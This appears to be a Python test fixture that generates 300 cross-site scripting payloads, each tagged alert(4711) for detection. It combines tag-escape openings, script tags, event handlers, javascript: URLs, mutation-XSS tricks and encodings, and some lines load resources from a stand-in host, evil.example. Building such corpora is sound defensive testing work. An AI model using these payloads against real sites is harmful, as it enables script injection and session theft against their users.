"""Three hundred invented ways to smuggle a script into a page: openings, vehicles and tricks combined (faults H1, H2).

Each carries the number 4711 where it would act, so that what comes through anywhere can be told from our own pages.
"""

from __future__ import annotations

import random
from itertools import product

ACT = "alert(4711)"
NUMBER = 300

# What may have to be left first, to get out of where a text stands.
OPENINGS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</svg>", '\\">', "{{", "{%", "`")

SCRIPTS = (
    f"<script>{ACT}</script>",
    f"<ScRiPt/x>{ACT}</sCrIpT >",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    "<script src=//evil.example/4711.js></script>",
    f"<script type=module>{ACT}</script>",
    f"\x0b<script\x0c>{ACT}</script>",
)
HANDLERS = (
    f"<img src=x onerror={ACT}>",
    f"<img/src='x'/onerror='{ACT}'>",
    f"<svg onload={ACT}>",
    f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<video><source onerror={ACT}></video>",
    f'x" onmouseover="{ACT}" y="',
    f"x' onfocus='{ACT}' autofocus='",
    f"<a href=x onclick\n=\n{ACT}>y</a>",
)
ADDRESSES = (
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f"\x01javascript:{ACT}",
    f"&#106;avascript:{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    f"vbscript:{ACT}",
    f"<a href='javascript:{ACT}'>read on</a>",
    f"<form action=javascript:{ACT}><button>go</button></form>",
    f"<button formaction=javascript:{ACT}>go</button>",
    f"<a href='&#x6A;avascript&colon;{ACT}'>x</a>",
)
MUTATIONS = (
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'></noscript>",
    f"<template><img src=x onerror={ACT}></template>",
    f"<svg><style><img src=x onerror={ACT}></style></svg>",
    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
    f"<object data='data:text/html,<script>{ACT}</script>'></object>",
    f"<embed src='javascript:{ACT}'>",
    "<style>@import '//evil.example/4711.css';</style>",
    "<link rel=stylesheet href=//evil.example/4711.css>",
    "<base href=//evil.example/4711/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
    f"<p style='background:url(javascript:{ACT})'>",
    f"<svg><a xlink:href='javascript:{ACT}'><text>x</text></a></svg>",
    f"<svg><animate attributeName=href values=javascript:{ACT} />",
    f"<select><option><!--</option></select><img src=x onerror={ACT}>-->",
)
TRICKS = (
    "{}",
    "{} 河内",
    "\u202e{}",
    "\ufeff{}\u200b",
    "＜{}＞",
    "%3Cscript%3E{}",
    "&lt;{}&gt;",
    "${{{}}} {{{{7*4711}}}}",
)


def payloads() -> tuple[str, ...]:
    """Always the same ones: every vehicle bare, then combinations drawn by a fixed seed."""
    vehicles = (*SCRIPTS, *HANDLERS, *ADDRESSES, *MUTATIONS)
    combined = [trick.format(opening + vehicle) for opening, vehicle, trick in product(OPENINGS, vehicles, TRICKS)]
    drawn = random.Random(4711).sample(combined, NUMBER)
    return tuple(dict.fromkeys((*vehicles, *drawn)))[:NUMBER]
